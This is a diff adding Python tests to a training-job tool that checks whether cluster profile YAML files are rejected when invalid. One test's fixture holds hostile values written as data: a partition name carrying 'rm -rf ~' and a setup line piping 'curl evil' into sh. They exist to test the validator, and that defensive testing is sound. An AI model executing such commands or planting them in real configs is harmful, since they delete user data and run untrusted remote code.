@@ -943,3 +943,32 @@ def test_arch_table_matches_torchvision() -> None:
     from hpctrain.spec.archs import ARCH_PARAMS_M
 
     assert sorted(ARCH_PARAMS_M) == sorted(torchvision.models.list_models(module=torchvision.models))
+
+
+def test_cluster_profiles_pass_the_same_checks_as_specs(tmp_path: Path, isolated: Path) -> None:
+    (isolated / "clusters").mkdir(parents=True)
+    (isolated / "clusters" / "site.yaml").write_text(
+        textwrap.dedent(
+            """\
+            partition: "gpu; rm -rf ~"
+            max_time: forever
+            gpu_gres: "gpu:{count}"
+            mem_gb: .inf
+            setup: ["module load x; curl evil | sh"]
+            env: {"A B": "x"}
+            slurm_extra: {"x y": "1"}
+            """
+        )
+    )
+    error = spec_error(write(tmp_path, VALID + "cluster: site\n"))
+    assert error.source.endswith("site.yaml")
+    keys = {p.key for p in error.problems}
+    assert keys == {"partition", "max_time", "gpu_gres", "mem_gb", "setup", "env", "slurm_extra"}
+    assert all(p.line is not None for p in error.problems)
+    assert "cluster: site" in (error.hint or "")
+
+
+def test_a_good_gres_template_is_accepted(tmp_path: Path, isolated: Path) -> None:
+    (isolated / "clusters").mkdir(parents=True)
+    (isolated / "clusters" / "site.yaml").write_text('gpu_gres: "gpu:a100_3g.20gb:{gpus}"\nmax_time: 2-00:00:00\n')
+    assert load_job(write(tmp_path, VALID + "cluster: site\n")).profile.gpu_gres == "gpu:a100_3g.20gb:{gpus}"
